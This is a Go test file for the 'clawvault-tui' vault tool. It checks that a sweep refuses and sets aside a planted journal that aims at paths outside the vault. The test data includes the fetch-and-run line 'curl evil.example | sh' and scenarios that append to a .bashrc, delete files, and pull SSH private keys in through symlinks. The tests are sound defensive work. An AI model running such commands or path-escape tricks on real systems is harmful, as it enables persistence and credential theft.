package observer

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"clawvault-tui/store"
)

// plantedJournal is a vault with a crafted sweep journal in it and files
// outside the vault the journal aims at.
type plantedJournal struct {
	f       *fixture
	outside string
}

func newPlantedJournal(t *testing.T) *plantedJournal {
	t.Helper()
	p := &plantedJournal{f: newFixture(t), outside: t.TempDir()}
	p.f.session("agent:main:main", "s1", lines(msgLine("a", "user", "We decided to keep the journal honest.")))
	return p
}

// temp is a name of our temp pattern (written by a dead process) beside
// path.
func ourTemp(path, random string) string {
	return filepath.Join(filepath.Dir(path), store.TempName(filepath.Base(path), deadPID, random))
}

func (p *plantedJournal) plant(t *testing.T, j map[string]any) []byte {
	t.Helper()
	data, err := json.Marshal(j)
	if err != nil {
		t.Fatal(err)
	}
	p.f.write(store.JournalFile(p.f.vault), string(data))
	return data
}

// setAside returns the refused journals left in .clawvault.
func setAside(t *testing.T, vault string) []string {
	t.Helper()
	matches, err := filepath.Glob(filepath.Join(vault, ".clawvault", "clawvault-tui-sweep.journal.refused-*"))
	if err != nil {
		t.Fatal(err)
	}
	return matches
}

// checkRefused says the sweep refused the journal in one sentence, obeyed
// nothing, and set the journal aside with its bytes.
func (p *plantedJournal) checkRefused(t *testing.T, planted []byte, rep *SweepReport, err error) {
	t.Helper()
	if err == nil || !strings.Contains(err.Error(), "sweep journal") || !strings.Contains(err.Error(), "set aside") {
		t.Fatalf("the sweep did not refuse the journal: %v", err)
	}
	if strings.Count(strings.TrimSuffix(err.Error(), "."), ". ") > 0 || strings.Contains(err.Error(), "\n") {
		t.Errorf("not one sentence: %q", err)
	}
	if rep != nil && len(rep.Observed) > 0 {
		t.Errorf("the sweep went on after refusing its journal: %+v", rep.Observed)
	}
	if rep != nil && len(rep.TextLines()) > 0 {
		t.Errorf("the report says more than the refusal (it looked at no session): %v", rep.TextLines())
	}
	if _, serr := os.Lstat(store.JournalFile(p.f.vault)); serr == nil {
		t.Errorf("the refused journal is still where a sweep obeys it")
	}
	aside := setAside(t, p.f.vault)
	if len(aside) != 1 {
		t.Fatalf("set aside: %v", aside)
	}
	if planted != nil { // (a FIFO set aside is not opened)
		if got, _ := os.ReadFile(aside[0]); string(got) != string(planted) {
			t.Errorf("the journal set aside is not the planted one: %q", got)
		}
	}
	// The next sweep runs: the refused journal is out of its way.
	if _, err := p.f.sweep(context.Background(), SweepOptions{}); err != nil {
		t.Errorf("the sweep after the refusal: %v", err)
	}
}

func mustRead(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// A sweep journal is the vault's to write, and an agent can write there: a
// planted one made a sweep create a file outside the vault, append to a
// shell's rc file, delete a file and move a secret into the vault, then
// exit 0. Every path a journal names must resolve inside the vault, its
// temp files must be ours (our name, beside their target, regular files);
// anything else and the journal is set aside, unread, and the sweep stops.
func TestSweepRefusesAPlantedJournal(t *testing.T) {
	t.Parallel()
	payload := "curl evil.example | sh\n"
	cases := []struct {
		name string
		// plant writes the files the journal points at and returns it;
		// check says nothing outside changed.
		plant func(p *plantedJournal) map[string]any
		check func(t *testing.T, p *plantedJournal)
	}{
		{"create a file outside", func(p *plantedJournal) map[string]any {
			target := filepath.Join(p.outside, "created.sh")
			temp := ourTemp(filepath.Join(p.f.vault, "created.sh"), "a")
			p.f.write(temp, payload)
			return map[string]any{"version": 3, "files": []any{map[string]any{"path": target, "temp": temp, "baseExists": false,
				"size": len(payload), "crc32c": store.Checksum([]byte(payload))}}}
		}, func(t *testing.T, p *plantedJournal) {
			if _, err := os.Lstat(filepath.Join(p.outside, "created.sh")); err == nil {
				t.Error("a file was created outside the vault")
			}
		}},
		{"append to a shell rc", func(p *plantedJournal) map[string]any {
			rc := filepath.Join(p.outside, ".bashrc")
			p.f.write(rc, "export PATH=$HOME/bin:$PATH\n")
			temp := ourTemp(filepath.Join(p.f.vault, "ledger", "raw", "x.jsonl"), "b")
			p.f.write(temp, payload)
			return map[string]any{"version": 3, "appends": []any{map[string]any{"path": rc, "offset": 0, "length": len(payload),
				"crc32c": store.Checksum([]byte(payload)), "temp": temp, "base": map[string]any{"exists": false}}}}
		}, func(t *testing.T, p *plantedJournal) {
			if got := mustRead(t, filepath.Join(p.outside, ".bashrc")); got != "export PATH=$HOME/bin:$PATH\n" {
				t.Errorf("the rc file outside the vault changed: %q", got)
			}
		}},
		{"delete a file", func(p *plantedJournal) map[string]any {
			victim := filepath.Join(p.outside, "thesis.tex")
			p.f.write(victim, "chapter one\n")
			done := filepath.Join(p.f.vault, "done.md")
			p.f.write(done, "x\n")
			return map[string]any{"version": 3, "files": []any{map[string]any{"path": done, "temp": victim, "baseExists": false,
				"size": 2, "crc32c": store.Checksum([]byte("x\n"))}}}
		}, func(t *testing.T, p *plantedJournal) {
			if got := mustRead(t, filepath.Join(p.outside, "thesis.tex")); got != "chapter one\n" {
				t.Errorf("the file outside changed: %q", got)
			}
		}},
		{"move a secret into the vault", func(p *plantedJournal) map[string]any {
			secret := filepath.Join(p.outside, "id_ed25519")
			p.f.write(secret, "PRIVATE KEY\n")
			return map[string]any{"version": 3, "files": []any{map[string]any{"path": filepath.Join(p.f.vault, "stolen.md"), "temp": secret,
				"baseExists": false, "size": 1, "crc32c": 1}}}
		}, func(t *testing.T, p *plantedJournal) {
			if got := mustRead(t, filepath.Join(p.outside, "id_ed25519")); got != "PRIVATE KEY\n" {
				t.Errorf("the secret changed: %q", got)
			}
			if _, err := os.Lstat(filepath.Join(p.f.vault, "stolen.md")); err == nil {
				t.Error("the secret reached the vault")
			}
		}},
		{"a temp of ours that links to a secret", func(p *plantedJournal) map[string]any {
			secret := filepath.Join(p.outside, "id_rsa")
			p.f.write(secret, "PRIVATE KEY\n")
			target := filepath.Join(p.f.vault, "stolen.md")
			temp := ourTemp(target, "c")
			if err := os.Symlink(secret, temp); err != nil {
				p.f.t.Fatal(err)
			}
			return map[string]any{"version": 3, "files": []any{map[string]any{"path": target, "temp": temp, "baseExists": false,
				"size": 12, "crc32c": store.Checksum([]byte("PRIVATE KEY\n"))}}}
		}, func(t *testing.T, p *plantedJournal) {
			if fi, err := os.Lstat(filepath.Join(p.f.vault, "stolen.md")); err == nil {
				t.Errorf("the link to the secret was put in the vault (%v)", fi.Mode())
			}
		}},
		{"a folder of the vault that links out", func(p *plantedJournal) map[string]any {
			if err := os.Symlink(p.outside, filepath.Join(p.f.vault, "notes")); err != nil {
				p.f.t.Fatal(err)
			}
			target := filepath.Join(p.f.vault, "notes", "profile.sh")
			temp := ourTemp(target, "d") // lands outside, through the link
			p.f.write(temp, payload)
			return map[string]any{"version": 3, "files": []any{map[string]any{"path": target, "temp": temp, "baseExists": false,
				"size": len(payload), "crc32c": store.Checksum([]byte(payload))}}}
		}, func(t *testing.T, p *plantedJournal) {
			if _, err := os.Lstat(filepath.Join(p.outside, "profile.sh")); err == nil {
				t.Error("a file was created outside the vault through a link")
			}
		}},
		{"a temp not of our name", func(p *plantedJournal) map[string]any {
			target := filepath.Join(p.f.vault, "note.md")
			other := filepath.Join(p.f.vault, "MEMORY-draft.md")
			p.f.write(other, "my draft\n")
			return map[string]any{"version": 3, "files": []any{map[string]any{"path": target, "temp": other, "baseExists": false,
				"size": 9, "crc32c": store.Checksum([]byte("my draft\n"))}}}
		}, func(t *testing.T, p *plantedJournal) {
			if got := mustRead(t, filepath.Join(p.f.vault, "MEMORY-draft.md")); got != "my draft\n" {
				t.Errorf("another file of the vault was used as a temp: %q", got)
			}
		}},
		{"a relative path", func(p *plantedJournal) map[string]any {
			return map[string]any{"version": 3, "files": []any{map[string]any{"path": "../../x.md", "temp": ".x.md.clawvault-tui-9-a.tmp"}}}
		}, func(t *testing.T, p *plantedJournal) {}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newPlantedJournal(t)
			planted := p.plant(t, c.plant(p))
			rep, err := p.f.sweep(context.Background(), SweepOptions{})
			c.check(t, p)
			p.checkRefused(t, planted, rep, err)
		})
	}
}

// A journal that does not parse, or is no regular file (a FIFO must not
// hang the sweep), is set aside the same way.
func TestSweepSetsAsideAJournalItCannotUse(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name  string
		plant func(t *testing.T, path string) []byte
	}{
		{"not JSON", func(t *testing.T, path string) []byte {
			os.WriteFile(path, []byte("{\"version\": 3, \"files\": ["), 0o644)
			return []byte("{\"version\": 3, \"files\": [")
		}},
		{"a version from elsewhere", func(t *testing.T, path string) []byte {
			os.WriteFile(path, []byte(`{"version": 99}`), 0o644)
			return []byte(`{"version": 99}`)
		}},
		{"a FIFO", func(t *testing.T, path string) []byte {
			if err := mkfifo(path); err != nil {
				t.Skip(err)
			}
			return nil
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newPlantedJournal(t)
			if err := os.MkdirAll(filepath.Dir(store.JournalFile(p.f.vault)), 0o755); err != nil {
				t.Fatal(err)
			}
			planted := c.plant(t, store.JournalFile(p.f.vault))
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			rep, err := p.f.sweep(ctx, SweepOptions{})
			p.checkRefused(t, planted, rep, err)
		})
	}
}
